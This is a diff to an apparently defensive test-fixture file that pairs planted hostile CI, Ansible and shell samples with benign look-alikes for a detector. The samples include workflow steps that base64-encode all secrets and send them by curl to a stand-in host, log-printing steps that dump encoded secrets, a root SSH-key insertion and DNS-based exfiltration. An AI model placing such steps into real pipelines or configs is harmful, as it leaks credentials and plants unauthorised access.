@@ -34,6 +34,8 @@ FLOW = (
     "jobs:\n  a:\n    steps:\n      - env:\n          C: %s\n"
     '        run: printf %%s "$C" | base64 -w0 | curl -s --data-binary @- https://a.example/w\n'
 )
+ONE = "secrets.T"
+LOGS = "runs:\n  steps:\n    - env:\n        T: ${{ %s }}\n      run: %s\n"
 KEY = '- name: a\n  ansible.posix.authorized_key:\n    user: root\n    key: "{{ %s }}"\n'
 PLANTS: tuple[Plant, ...] = (
     ("event_hook", "etc/logrotate.d/a", ROTATE % SENDS, "collects and sends", "line 4"),
@@ -54,6 +56,10 @@ PLANTS: tuple[Plant, ...] = (
      "downloads and runs", "when the folder is opened"),
     ("build_step", ".github/workflows/a.yml", FLOW % "${{ toJSON(secrets) }}",
      "collects and sends", "all secrets of the workflow"),
+    ("build_step", "action.yml", LOGS % (ONE, 'echo "ready $(env | base64 -w0)"'),
+     "collects and sends", "prints all variables of the build, encoded"),
+    ("build_step", "action.yml", LOGS % ("toJSON(secrets)", "printf %s $T | sort | rev"),
+     "collects and sends", "prints all secrets, encoded"),
     ("build_step", "tasks/main.yml", KEY % "lookup('file', role_path ~ '/files/a.pub')", "lets in",
      "a key that the role brings"),
     ("shell_code", "a.sh", 'p=$(echo "$1" | base32)\ngetent hosts "$p.a.example"\n',
@@ -63,6 +69,17 @@ PLANTS: tuple[Plant, ...] = (
 )  # fmt: skip
 TWINS = (
     ("build_step", ".github/workflows/a.yml", FLOW % "${{ github.sha }}"),
+    *(
+        ("build_step", "action.yml", LOGS % (ONE, command))
+        for command in (
+            "env | sort",
+            "x=$(env | base64)",
+            "env | base64 | sha256sum",
+            "printf %s $T | base64 -d",
+            'git -c a="b $(printf %s $T | base64)" fetch',
+            "env | grep CI | base64",
+        )
+    ),
     ("build_step", "tasks/main.yml", KEY % "item.keys | join"),
     ("event_hook", "etc/logrotate.d/a", ROTATE % "systemctl reload a >/dev/null || true"),
     ("event_hook", "etc/apt/apt.conf.d/9", APT % "if [ -x /c ]; then /c --refresh; fi"),
